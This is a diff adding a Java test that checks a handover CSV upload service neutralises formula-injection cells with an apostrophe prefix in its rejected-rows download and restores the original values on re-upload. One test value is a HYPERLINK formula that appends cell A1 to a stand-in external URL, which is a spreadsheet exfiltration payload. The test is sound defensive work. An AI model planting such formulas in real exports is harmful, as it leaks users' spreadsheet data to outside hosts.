@@ -6,6 +6,7 @@ import static org.leye.casework.handover.HandoverFiles.HEADER_TRADITIONAL;
 import static org.leye.casework.handover.HandoverFiles.row;
 import static org.leye.casework.handover.HandoverFiles.with;
 
+import java.io.StringReader;
 import java.nio.charset.StandardCharsets;
 import java.time.Duration;
 import java.time.LocalDate;
@@ -15,6 +16,8 @@ import java.util.List;
 import java.util.Random;
 import java.util.Set;
 
+import org.apache.commons.csv.CSVFormat;
+import org.apache.commons.csv.CSVRecord;
 import org.junit.jupiter.api.Test;
 import org.leye.casework.graduates.Gender;
 import org.leye.casework.graduates.ResidentIds;
@@ -87,6 +90,44 @@ abstract class HandoverApiContract extends HandoverApiContractSupport {
         Api.as(rest, "counselor.jmpt").get("/api/handovers/" + id).expect(404);
         assertThat(rest.exchange("/api/handovers/" + id + "/rejected", HttpMethod.GET,
                 new HttpEntity<>(auth("counselor.jmpt")), byte[].class).getStatusCode().value()).isEqualTo(404);
+    }
+
+    /**
+     * A rejected row whose cells start formulas comes back with each such cell neutralised
+     * ({@code '=…}, {@code '+86…}, {@code '-}), and the corrected file uploaded again registers what
+     * was typed in the first place: the prefix is dropped on reading.
+     */
+    @Test
+    void rejectedRowsComeBackNeutralisedAndMeanTheSameWhenUploadedAgain() throws Exception {
+        String marker = "式" + System.nanoTime() % 100000;
+        String hyperlink = "=HYPERLINK(\"http://x.example/\"&A1,\"查看\")";
+        String phone = TestGraduates.phone();
+        List<String> bad = with(with(with(with(with(row("@" + marker + "乙"), 3, "+86 " + phone), 5, hyperlink), 6, "小学"),
+                9, "-"), 10, "-");
+        byte[] file = HandoverFiles.csv(HEADER_SIMPLIFIED, List.of(bad), StandardCharsets.UTF_8, true);
+        JsonNode done = uploadAndWait("counselor.wyu", file, "formulas.csv", Duration.ofSeconds(30));
+        assertThat(done.path("rejected").asInt()).isEqualTo(1);
+        assertThat(errors(done)).containsExactly("2 degree", "2 willingToWork");
+
+        ResponseEntity<byte[]> download = rest.exchange("/api/handovers/" + done.path("id").asLong() + "/rejected",
+                HttpMethod.GET, new HttpEntity<>(auth("counselor.wyu")), byte[].class);
+        String text = new String(download.getBody(), StandardCharsets.UTF_8).substring(1);
+        List<CSVRecord> records = CSVFormat.DEFAULT.parse(new StringReader(text)).getRecords();
+        assertThat(records).hasSize(2);
+        assertThat(records.get(1).toList().subList(0, 11)).containsExactly("'@" + marker + "乙", bad.get(1), "女",
+                "'+86 " + phone, "五邑大学", "'" + hyperlink, "小学", "2023", "蓬江区", "'-", "'-");
+
+        // corrected (the degree, and willingness to work said plainly) and uploaded again
+        String fixed = text.replace("小学", "本科").replace(",'-,'-,", ",'-,是,");
+        JsonNode again = uploadAndWait("counselor.wyu", fixed.getBytes(StandardCharsets.UTF_8), "fixed.csv",
+                Duration.ofSeconds(30));
+        assertThat(again.path("rejected").asInt()).as(again.toString()).isZero();
+        assertThat(again.path("accepted").asInt()).isEqualTo(1);
+        JsonNode graduate = Api.as(rest, "counselor.wyu").get("/api/graduates?q=" + marker).expect(200).json()
+                .path("content").get(0);
+        assertThat(graduate.path("name").asText()).isEqualTo("@" + marker + "乙");
+        assertThat(graduate.path("major").asText()).isEqualTo(hyperlink);
+        assertThat(graduate.path("difficulties")).isEmpty();
     }
 
     @Test
